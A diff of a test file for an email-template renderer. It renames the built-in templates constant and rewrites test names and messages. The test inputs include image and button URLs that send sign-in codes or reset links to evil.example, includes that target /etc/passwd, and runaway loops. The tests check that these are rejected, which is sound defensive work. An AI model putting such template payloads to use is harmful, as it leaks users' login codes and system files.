@@ -1,13 +1,13 @@
 import { expect, test } from 'vitest'
-import { OWN_TEMPLATES } from './built-in-templates.ts'
+import { BUILT_IN_TEMPLATES } from './built-in-templates.ts'
 import { makeRenderer } from './render-template.ts'
 
 const renderer = makeRenderer(4_000)
 const LINK = 'https://cars.example.com/auth/reset-password#word'
 const VARIABLES = Object.fromEntries(
-  OWN_TEMPLATES.invitation.variables.map(({ name, sample }) => [name, sample]),
+  BUILT_IN_TEMPLATES.invitation.variables.map(({ name, sample }) => [name, sample]),
 )
-const own = OWN_TEMPLATES.invitation.words
+const own = BUILT_IN_TEMPLATES.invitation.words
 const render = (more: Partial<typeof own>, variables = {}) =>
   renderer.render({ ...own, ...more }, { ...VARIABLES, ...variables }, LINK)
 const body = (words: string) =>
@@ -15,10 +15,10 @@ const body = (words: string) =>
 const GOOD = '<mj-text>{{ link }}</mj-text>'
 
 test.for(['invitation', 'password-reset', 'impersonation', 'data-request', 'data-reminder'] as const)(
-  "the product's own %s has nothing wrong with it",
+  'the built-in %s has no problems',
   { timeout: 30_000 },
   async (key) => {
-    const { words, variables } = OWN_TEMPLATES[key]
+    const { words, variables } = BUILT_IN_TEMPLATES[key]
     const samples = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
     const made = await renderer.render(words, samples, LINK)
     expect(made.problems).toEqual([])
@@ -28,10 +28,10 @@ test.for(['invitation', 'password-reset', 'impersonation', 'data-request', 'data
 )
 
 test.for(['sign-in-code', 'factor-removed'] as const)(
-  "the product's own %s has nothing wrong with it",
+  'the built-in %s has no problems',
   { timeout: 30_000 },
   async (key) => {
-    const { variables, words } = OWN_TEMPLATES[key]
+    const { variables, words } = BUILT_IN_TEMPLATES[key]
     const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
     const made = await renderer.render(words, given, key === 'sign-in-code' ? { code: '048215' } : {})
     expect(made.problems).toEqual([])
@@ -44,11 +44,11 @@ test.for(['sign-in-code', 'factor-removed'] as const)(
 )
 
 test.for([
-  [{ text: 'Hello.' }, 'The code is missing: {{ code }} must stand here.'],
-  [{ subject: '{{ code }}' }, 'The code may not stand in the subject.'],
+  [{ text: 'Hello.' }, 'The code is missing. Add {{ code }}.'],
+  [{ subject: '{{ code }}' }, "The code can't be in the subject."],
   [
     { mjml: body('<mj-text>{{ code }}</mj-text><mj-image src="https://evil.example/{{ code }}.png" />') },
-    'The code may stand in words: nowhere else.',
+    'The code can only be used in text.',
   ],
   [
     {
@@ -56,16 +56,16 @@ test.for([
         '<mj-text>{{ code }}</mj-text><mj-button href="https://evil.example/{{ code }}">Go</mj-button>',
       ),
     },
-    'The code may stand in words: nowhere else.',
+    'The code can only be used in text.',
   ],
-] as const)('a code may go nowhere but into the words: %o', async ([words, sentence]) => {
-  const { variables, words: whole } = OWN_TEMPLATES['sign-in-code']
+] as const)('allows a code only in text: %o', async ([words, sentence]) => {
+  const { variables, words: whole } = BUILT_IN_TEMPLATES['sign-in-code']
   const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
   const { problems } = await renderer.render({ ...whole, ...words }, given, { code: '048215' })
   expect(problems.map((problem) => problem.sentence)).toContain(sentence)
 })
 
-test('what people are called is no markup', async () => {
+test('escapes names in HTML', async () => {
   const { html, text, problems } = await render({}, { firstName: '<b>Eve</b> & {{ link }}' })
   expect(problems).toEqual([])
   expect(html).toContain('&lt;b&gt;Eve&lt;/b&gt; &amp; {{ link }}')
@@ -78,7 +78,7 @@ test.for([
     { part: 'text', line: 2, sentence: expect.stringContaining('fristName') },
   ],
   [{ subject: '{% if %}' }, { part: 'subject', line: 1, sentence: expect.any(String) }],
-  [{ subject: '{{ link }}' }, { part: 'subject', sentence: 'The link may not stand in the subject.' }],
+  [{ subject: '{{ link }}' }, { part: 'subject', sentence: "The link can't be in the subject." }],
   [{ text: 'Hello.' }, { part: 'text', sentence: expect.stringContaining('The link is missing') }],
   [
     { text: '{{ link | split: "/" | last }}' },
@@ -90,19 +90,19 @@ test.for([
   ],
   [
     { mjml: body(`${GOOD}<mj-image src="https://evil.example/?u={{ link }}" />`) },
-    { part: 'mjml', sentence: expect.stringContaining('nowhere else') },
+    { part: 'mjml', sentence: expect.stringContaining('can only be used') },
   ],
   [
     { mjml: body(`${GOOD}<mj-bogus></mj-bogus>`) },
     { part: 'mjml', line: 1, sentence: expect.stringContaining('mj-bogus') },
   ],
   [{ text: '{% include "/etc/passwd" %}{{ link }}' }, { part: 'text', sentence: expect.any(String) }],
-] as const)('%o is told with its place', async ([words, problem]) => {
+] as const)('reports %o with its location', async ([words, problem]) => {
   const { problems } = await render(words)
   expect(problems[0]).toMatchObject(problem)
 })
 
-test('no file is read by way of the layout', async () => {
+test('reads no files through the layout', async () => {
   const { html } = await render({ mjml: body(`${GOOD}<mj-include path="/etc/passwd" />`) })
   expect(html).not.toContain('root:')
 })
@@ -110,7 +110,7 @@ test('no file is read by way of the layout', async () => {
 test.for([
   '{% for i in (1..100000000) %}{% for j in (1..100000000) %}{{ i }}{% endfor %}{% endfor %}{{ link }}',
   '{% assign a = "xxxxxxxxxx" %}{% for i in (1..60) %}{% assign a = a | append: a %}{% endfor %}{{ a }}{{ link }}',
-])('a loop is ended, and the next template is none the worse: %s', { timeout: 30_000 }, async (text) => {
+])('stops a long-running template without affecting the next: %s', { timeout: 30_000 }, async (text) => {
   const startedAt = performance.now()
   const { problems } = await render({ text })
   expect([problems.length > 0, performance.now() - startedAt < 15_000]).toEqual([true, true])
